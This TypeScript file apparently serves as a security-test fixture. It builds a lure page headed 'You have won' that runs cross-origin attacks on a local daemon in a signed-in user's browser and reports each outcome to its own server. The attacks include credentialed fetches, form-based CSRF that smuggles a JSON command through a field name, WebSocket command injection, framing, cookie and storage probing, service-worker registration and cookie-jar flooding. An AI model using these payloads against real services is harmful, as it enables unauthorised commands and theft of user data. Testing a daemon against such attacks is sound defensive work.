// A hostile page: it tries everything that a page of another origin can try on a daemon whose address it knows, in the browser of
// somebody who is signed in there, and tells its own server how each attempt ended. Runs as it is, in every engine.

export const attackNames = [
  ...['read the list', 'read the page', 'blind command', 'command as JSON', 'socket', 'challenge', 'form'],
  ...['frame', 'window', 'storage', 'database', 'cookies', 'worker', 'event stream', 'script', 'jar'],
] as const;

/** What an attempt gives back when nothing was got by it. */
export const nothingGot = 'nothing';

/** `target`: the daemon's origin. `place`: where this page stands, for the report. */
export function attackPage(options: { target: string; home: string; place: string; inside: string }): string {
  const { target, home, place, inside } = options;
  return `<!doctype html><meta charset="utf-8"><title>${place}</title><h1>You have won</h1>
<button>Go</button>${inside}<script>
const [T, H, place] = ${JSON.stringify([target, home, place])};
const NOTHING = ${JSON.stringify(nothingGot)};
const steal = { type: 'conversation.create', cwd: '~', title: 'stolen' };
const blocked = () => NOTHING;
const soon = (ms) => new Promise((resolve) => setTimeout(resolve, ms, NOTHING));
const textOf = async (response) => response.type === 'opaque' || response.type === 'error' ? NOTHING : 'read ' + response.status + (await response.text()).slice(0, 60);
const asks = (path, init) => fetch(T + path, { credentials: 'include', ...init }).then(textOf, blocked);
const added = (element, events) => new Promise((resolve) => {
  for (const name of events) element.addEventListener(name, () => resolve(name));
  document.body.append(element);
  setTimeout(resolve, 3000, 'quiet');
});
const made = (name, more) => Object.assign(document.createElement(name), more);
const json = { 'content-type': 'application/json' };
const attacks = {
  'read the list': () => asks('/api/logs/lobby/events?after=0'),
  'read the page': () => asks('/'),
  'blind command': () => asks('/api/commands', { method: 'POST', mode: 'no-cors', body: JSON.stringify(steal) }),
  'command as JSON': () => asks('/api/commands', { method: 'POST', headers: json, body: JSON.stringify(steal) }),
  socket: () => new Promise((resolve) => {
    const socket = new WebSocket(T.replace('https', 'wss') + '/api/socket');
    let heard = NOTHING;
    socket.onopen = () => {
      heard = 'opened';
      socket.send(JSON.stringify({ type: 'command', ref: '1', command: steal }));
      socket.send(JSON.stringify({ type: 'subscribe', log: 'lobby', after: 0 }));
    };
    socket.onmessage = ({ data }) => { heard = 'read ' + data.slice(0, 60); socket.close(); };
    socket.onerror = socket.onclose = () => resolve(heard);
    setTimeout(() => resolve(heard), 8000);
  }),
  challenge: () => asks('/auth/challenge', { method: 'POST', headers: json, body: '{"deviceId":"x"}' }),
  form: async () => {
    const form = made('form', { method: 'POST', action: T + '/api/commands', enctype: 'text/plain', target: 'sink' });
    form.append(made('input', { name: '{"type":"conversation.create","cwd":"~","title":"stolen","x":"', value: '"}' }));
    document.body.append(made('iframe', { name: 'sink' }), form);
    form.submit();
    return soon(1000);
  },
  frame: async () => {
    const frame = made('iframe', { src: T + '/' });
    await added(frame, ['load', 'error']);
    try { return frame.contentDocument?.body.innerText.includes('Porchlight') ? 'read the frame' : NOTHING; } catch { return NOTHING; }
  },
  window: async () => {
    const opened = window.open(T + '/');
    for (let n = 0; opened && !opened.closed && n < 20; n++) await soon(100);
    try { return opened && !opened.closed && opened.location.href.startsWith(T) ? 'read the window' : NOTHING; } catch { return NOTHING; }
  },
  storage: async () => {
    try {
      for (const key of ['porchlight', 'token', 'identity']) localStorage.setItem(key, 'tossed');
      return Object.keys(localStorage).every((key) => localStorage[key] === 'tossed') ? NOTHING : 'read storage';
    } catch { return NOTHING; }
  },
  database: async () => {
    try {
      const found = (await indexedDB.databases?.()) ?? [];
      indexedDB.deleteDatabase('porchlight');
      return found.length === 0 ? NOTHING : 'read ' + found.map(({ name }) => name);
    } catch { return NOTHING; }
  },
  cookies: async () => {
    try {
      for (const name of ['token', 'session', '__Host-plt', '__Secure-plt']) document.cookie = name + '=tossed; path=/; secure';
      return document.cookie.split('; ').filter((each) => each && !each.endsWith('=tossed') && !/^jar/.test(each)).length === 0 ? NOTHING : 'read ' + document.cookie;
    } catch { return NOTHING; }
  },
  worker: async () => {
    if (!navigator.serviceWorker) return NOTHING;
    const tries = [navigator.serviceWorker.register(T + '/trust/check.js'), navigator.serviceWorker.register('/worker.js', { scope: T + '/' })];
    const ended = await Promise.race([Promise.allSettled(tries), soon(4000)]);
    return Array.isArray(ended) && ended.some(({ status }) => status === 'fulfilled') ? 'a worker' : NOTHING;
  },
  'event stream': () => new Promise((resolve) => {
    const source = new EventSource(T + '/api/logs/lobby/events', { withCredentials: true });
    source.onmessage = ({ data }) => { source.close(); resolve('read ' + data.slice(0, 60)); };
    source.onerror = () => { source.close(); resolve(NOTHING); };
  }),
  script: async () => {
    const before = Object.keys(window).length;
    await added(made('script', { src: T + '/api/logs/lobby/events' }), ['load', 'error']);
    return Object.keys(window).length === before ? NOTHING : 'read globals';
  },
  // The last, for it spoils whatever comes after.
  jar: async () => {
    try { for (let n = 0; n < 400; n++) document.cookie = 'jar' + n + '=' + 'x'.repeat(100) + '; path=/; secure'; } catch {}
    return NOTHING;
  },
};
document.querySelector('button').onclick = async () => {
  // The window first: it needs the press of a finger.
  const names = Object.keys(attacks).sort((a, b) => (b === 'window') - (a === 'window'));
  const report = { place };
  for (const name of names) report[name] = await attacks[name]().catch((error) => NOTHING + '');
  await fetch(H + '/report', { method: 'POST', mode: 'no-cors', credentials: 'omit', body: JSON.stringify(report) });
  document.title = 'done';
};
if (window !== top) document.querySelector('button').click();
</script>`;
}
